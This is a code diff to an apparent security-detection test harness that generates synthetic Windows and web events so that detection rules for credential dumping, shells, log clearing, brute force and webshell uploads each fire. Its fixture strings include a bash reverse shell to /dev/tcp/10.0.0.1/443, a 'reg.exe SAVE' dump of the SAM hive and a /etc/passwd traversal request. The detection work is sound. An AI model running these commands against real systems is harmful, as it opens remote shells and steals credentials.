@@ -108,29 +108,89 @@ def security_overlay(s, f):
     return sec.select("id", *[F.try_element_at("_sec", F.lit(k)).alias(n) for k, n in (("url.path", "path"), ("web.script", "script"), ("web.upload_dir", "upload_dir"), ("http.status_class", "status_class"))])
 
 
-@query(f"{EV} select 'webshell.upload-dir-script' as rule, 'high' as severity, 3 as evidence, source as entity, ts as first, ts as last, 1 as n from ev where k > 90 and code <> 'error'")
+# Events with windows numbers, commands and requests, so that each of the base rules meets some.
+_SEC = f"""{EV}, sec as (select *,
+    case id % 23 when 0 then '4625' when 1 then '4624' when 2 then '4720' when 3 then '4732' when 4 then '1102' when 5 then '7045' when 6 then '4698' when 7 then '4719' when 8 then '4688' when 9 then '4625' when 10 then '4625' end as number,
+    case when id % 46 = 8 then 'reg.exe SAVE hklm' || chr(92) || 'sam x' when id % 46 = 31 then 'bash -i >& /dev/tcp/10.0.0.1/443 0>&1' when id % 23 = 8 then 'dir' end as command,
+    case when id % 23 = 11 then 'POST /uploads/a.php' when id % 23 = 12 then 'GET /x?f=../../etc/passwd' when id % 23 = 13 then 'GET /index.html' end as url,
+    case when code = 'error' then '500' else '200' end as status from ev)"""
+
+
+def _secured(s, f):
+    ev = events_view(s, f)
+    k = F.col("id") % 23
+    number = F.lit(None).cast("string")
+    for n, code in enumerate(("4625", "4624", "4720", "4732", "1102", "7045", "4698", "4719", "4688", "4625", "4625")):
+        number = F.when(k == n, code).otherwise(number)
+    command = F.when(F.col("id") % 46 == 8, "reg.exe SAVE hklm\\sam x").when(F.col("id") % 46 == 31, "bash -i >& /dev/tcp/10.0.0.1/443 0>&1").when(k == 8, "dir")
+    url = F.when(k == 11, "POST /uploads/a.php").when(k == 12, "GET /x?f=../../etc/passwd").when(k == 13, "GET /index.html")
+    fields = {"user": F.col("user"), "src_ip": F.col("ip"), "host": F.col("source"), "cmdline": command, "url": url, "status": F.when(url.isNotNull(), F.when(F.col("code") == "error", "500").otherwise("200"))}
+    made = F.map_filter(F.create_map(*[x for n, c in fields.items() for x in (F.lit(n), c)]), lambda _, v: v.isNotNull())
+    return ev.select("id", "ts", "source", number.alias("code"), "level", "message", made.alias("fields"))
+
+
+_SINGLES = f"""{_SEC}, found as (
+    select 'T1003-registry-secrets' as rule, 'high' as severity, 3 as evidence, source as entity, ts as first from sec where number = '4688' and command like 'reg%'
+    union all select 'T1053-task', 'low', 2, source, ts from sec where number = '4698' union all select 'T1059-shell-handed-out', 'critical', 4, source, ts from sec where command like 'bash%'
+    union all select 'T1070-log-cleared', 'high', 4, source, ts from sec where number = '1102' union all select 'T1098-group-member', 'medium', 2, source, ts from sec where number = '4732'
+    union all select 'T1136-account', 'medium', 2, source, ts from sec where number = '4720' union all select 'T1190-answered-probe', 'high', 3, source, ts from sec where url like '%passwd' and status = '200'
+    union all select 'T1505-script-sent', 'high', 3, source, ts from sec where url like 'POST%' union all select 'T1543-service', 'medium', 2, source, ts from sec where number = '7045'
+    union all select 'T1562-audit-policy', 'medium', 3, source, ts from sec where number = '4719')"""
+
+
+@query(f"{_SINGLES} select *, first as last, 1::bigint as n from found")
 def rules_findings(s, f):
-    """All base rules over the event view: only the one on scripts in upload folders can fire there."""
-    return rules.run_all(rules.flat(_with_fields(s, f)))
+    """All base rules on single events, in one pass."""
+    return rules.run_all(rules.flat(_secured(s, f)), [r for r in rules.BASE if r["kind"] == "single"])
+
+
+_FAILED = "select \"user\" as k, ip, ts, id from sec where number = '4625'"
+
+
+@query(f"""{_SEC}, f as ({_FAILED}), w as (select *, count(*) over (partition by k order by ts range between 600000 preceding and current row) as c from f), h as (select * from w where c >= 5),
+    g as (select *, case when ts - lag(ts) over (partition by k order by ts, id) <= 600000 then 0 else 1 end as b from h), r as (select *, sum(b) over (partition by k order by ts, id) as run from g)
+    select 'T1110-guessing' as rule, 'medium' as severity, 2 as evidence, k as entity, min(ts) as first, max(ts) as last, count(*) as n from r group by k, run
+    union all select 'T1078-new-source', 'low', 2, k, ts, ts, 1 from (select "user" as k, ip, ts, row_number() over (partition by "user" order by ts, id) - 1 as prior, row_number() over (partition by "user", ip order by ts, id) as nth from sec where number = '4624') where nth = 1 and prior >= 5""")
+def rules_windows(s, f):
+    """The base rules on counts and on new values."""
+    return rules.run_all(rules.flat(_secured(s, f)), [r for r in rules.BASE if r["kind"] in ("threshold", "new_value")])
 
 
-@query(f"{EV} select 'persistence' as tactic, count(*) as findings, count(distinct source) as entities, 'high' as severity from ev where k > 90 and code <> 'error'")
+def rules_sequences(s, f):
+    """The base rules on several values and on steps."""
+    return rules.run_all(rules.flat(_secured(s, f)), [r for r in rules.BASE if r["kind"] in ("distinct", "sequence")])
+
+
+Q["rules_sequences"] = rules_sequences
+_TACTIC = "case substr(rule, 1, 5) when 'T1003' then 'credential-access' when 'T1059' then 'execution' when 'T1070' then 'defense-evasion' when 'T1562' then 'defense-evasion' when 'T1190' then 'initial-access' else 'persistence' end"
+
+
+@query(f"{_SINGLES} select {_TACTIC} as tactic, count(*) as findings, count(distinct entity) as entities, arg_max(severity, case severity when 'low' then 1 when 'medium' then 2 when 'high' then 3 else 4 end) as severity from found group by 1")
 def rules_tactics(s, f):
     return rules.tactics(rules_findings(s, f))
 
 
-@query(f"{EV} select 'webshell' as theme, ts // 3600000 as hour, count(*) as n from ev where k > 90 and code <> 'error' group by 2")
+@query(f"""{_SINGLES}, b as (select min(first) as a, -(-(max(first) - min(first) + 1) // 24) as w0, (max(first) - min(first) + 1 + 23) // 24 as w from found)
+    select substr(rule, 1, 5) as theme, a + (first - a) // w * w as start, count(*) as n from found, b group by 1, 2""")
 def rules_themes(s, f):
     return rules.themes(rules_findings(s, f))
 
 
+@query(f"""{_SEC} select threat, category, severity, count(*) as n from (select 'traversal' as threat, 'web' as category, 'medium' as severity from sec where url like '%passwd'
+    union all select 'reverse-shell', 'command', 'high' from sec where command like 'bash%') group by all""")
 def threat_scan(s, f):
-    """Threat texts in documents and in lines of web servers."""
+    """Threat texts in commands and requests."""
+    rows = _secured(s, f).select("id", F.coalesce(F.try_element_at("fields", F.lit("cmdline")), F.try_element_at("fields", F.lit("url"))).alias("text"))
+    return rules.threat_scan(rows.where("text is not null"), F.col("text")).groupBy("threat", "category", "severity").agg(F.count("*").alias("n"))
+
+
+def threat_texts(s, f):
+    """Threat texts in documents and in lines of web servers, repeated rows once; the rows are few, or none."""
     texts = table(s, f, "documents").select(F.lit("documents").alias("tab"), F.col("doc_id").alias("id"), "text").unionByName(table(s, f, "http_records").select(F.lit("http_records").alias("tab"), F.col("record_id").alias("id"), F.col("line").alias("text")).distinct())
     return rules.threat_scan(texts.where("text is not null"), F.col("text")).groupBy("tab", "threat", "category", "severity").agg(F.count("*").alias("n"))
 
 
-Q["threat_scan"] = threat_scan
+Q["threat_texts"] = threat_texts
 _MAP = {"rules": [
     {"priority": 5, "selector": {"event_id": "error"}, "mappings": [{"to": "actor", "from": ["user"], "steps": ["strip_prefix:user-", "trim"], "type": "integer"}, {"to": "kind", "from": ["code"], "steps": ["upper"]}]},
     {"priority": 1, "when": "k>=50", "mappings": [{"to": "actor", "from": ["missing", "ip"], "type": "ip"}, {"to": "kind", "from": ["size"], "type": "decimal", "on_invalid": "keep", "on_missing": "default", "default": "none"}]},
